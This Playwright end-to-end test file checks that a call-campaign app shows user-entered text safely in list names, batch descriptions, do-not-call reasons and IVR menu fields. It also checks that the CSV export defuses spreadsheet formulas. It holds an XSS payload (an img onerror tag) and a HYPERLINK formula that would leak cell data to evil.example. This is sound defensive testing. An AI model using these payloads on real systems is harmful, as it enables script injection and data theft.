import { expect, type Page, test } from "@playwright/test";
import { makeWav } from "@/lib/sim/audio";
import { addWebhookParameters } from "./pages/ivr-builder";
import { ensureConnection, pageAs } from "./support";

// Text written to attack the people who read it: markup that would run if it were put into the page as HTML,
// and spreadsheet formulas that would run if an export handed them to Excel as they are.
const run = Date.now().toString(36);
const MARKUP = `<img src=x onerror="window.__xss=1">`;
const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`;

test.describe.configure({ mode: "serial" });

test.beforeAll(async ({ browser }) => {
  await ensureConnection(browser, "calldron");
  await ensureConnection(browser, "calldog");
});

/** Nothing ran and no element was made from the text: it is on the page only as the characters typed. */
async function expectInert(page: Page, shown: string) {
  await expect(page.getByText(shown, { exact: false }).first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(page.locator("script:not([src]):not([nonce])")).toHaveCount(0);
}

test("a list name with markup is stored and shown as text", async ({ browser }) => {
  const page = await pageAs(browser, "manager");
  const name = `${MARKUP} list ${run}`;
  await page.goto("/lists");
  const section = page.locator("section").filter({ hasText: "Calldron main" });
  await section.getByLabel("New list name").fill(name);
  await section.getByRole("button", { name: "Create list" }).click();
  await expect(page.getByRole("heading", { name })).toBeVisible();
  await expectInert(page, name);
  await page.goto("/lists");
  await expectInert(page, name);
  await page.context().close();
});

test("a batch name and description with markup and a formula are shown as text", async ({ browser }) => {
  const page = await pageAs(browser, "manager");
  const name = `${MARKUP} batch ${run}`;
  await page.goto("/campaigns");
  await page.locator("section").filter({ hasText: "Calldron main" }).getByRole("link", { name: "New batch" }).click();
  await page.getByLabel("Name", { exact: true }).fill(name);
  await page.getByLabel("Description").fill(FORMULA);
  await page.getByLabel("Callback number", { exact: true }).fill("8 (999) 777-88-55");
  await page.getByLabel("Intro audio", { exact: true }).setInputFiles({ name: `${MARKUP}.wav`, mimeType: "audio/wav", buffer: makeWav(1) });
  await page.getByRole("button", { name: "Create batch" }).click();
  await expect(page.getByRole("heading", { name })).toBeVisible();
  await expectInert(page, name);
  await expect(page.getByText(FORMULA)).toBeVisible();
  await page.goto("/campaigns");
  await expectInert(page, name);
  await page.context().close();
});

test("a do-not-call reason with markup and a formula is shown as text, and the CSV export neutralises the formula", async ({ browser }) => {
  const page = await pageAs(browser, "manager");
  const number = `8916${String(7_000_000 + (Date.now() % 999_999)).padStart(7, "0")}`;
  const reason = `${FORMULA} ${MARKUP}`;
  await page.goto("/dnc");
  await page.getByLabel("Numbers", { exact: true }).fill(number);
  await page.getByLabel("Reason", { exact: true }).fill(reason);
  await page.getByRole("button", { name: "Add to the list" }).click();
  await expectInert(page, reason);

  const csv = await (await page.request.get("/api/dnc/export")).text();
  const line = csv.split("\r\n").find((l) => l.includes("evil.example"));
  expect(line, csv.slice(0, 500)).toBeDefined();
  // The reason cell starts with an apostrophe, so a spreadsheet shows the formula instead of running it.
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"") <img src=x onerror=""window.__xss=1"">"`);
  await page.context().close();
});

test("an IVR menu's SMS text and webhook parameters with markup and a formula are shown as text, saved and loaded back", async ({ browser }) => {
  const page = await pageAs(browser, "manager");
  const name = `${MARKUP} menu ${run}`;
  await page.goto("/campaigns/calldog/menus/new");
  await page.getByLabel("Template name").fill(name);
  const addKey = page.getByRole("button", { name: "Add a key" });

  await addKey.click();
  const sms = page.getByTestId("ivr-handler-1");
  await sms.getByLabel("Send an SMS").check();
  await sms.getByLabel("SMS text").fill(MARKUP);

  await addKey.click();
  const hook = page.getByTestId("ivr-handler-2");
  await hook.getByLabel("Call a webhook").check();
  await hook.getByLabel("Webhook URL").fill("https://crm.example.com/hook");
  await addWebhookParameters(hook, [
    ["note", FORMULA],
    ["html", MARKUP],
  ]);

  const preview = page.getByTestId("ivr-menu-tree");
  await expect(preview).toContainText(`Send the SMS “${MARKUP}”`);
  await expect(preview).toContainText(JSON.stringify({ note: FORMULA, html: MARKUP }));
  await expectInert(page, `Send the SMS “${MARKUP}”`);

  await page.getByRole("button", { name: "Save", exact: true }).last().click();
  await expect(page).toHaveURL(/\/campaigns\/calldog\/menus\?saved=/);
  await expectInert(page, name);

  await page.goto("/campaigns/calldog/menus/new");
  await page.getByLabel("Template", { exact: true }).selectOption({ label: name });
  await page.getByRole("button", { name: "Load template" }).click();
  await expect(page.getByTestId("ivr-handler-1").getByLabel("SMS text")).toHaveValue(MARKUP);
  await expect(page.getByTestId("ivr-handler-2").getByTestId("webhook-parameters-json")).toHaveText(JSON.stringify({ note: FORMULA, html: MARKUP }));
  await expectInert(page, `Send the SMS “${MARKUP}”`);
  await page.context().close();
});
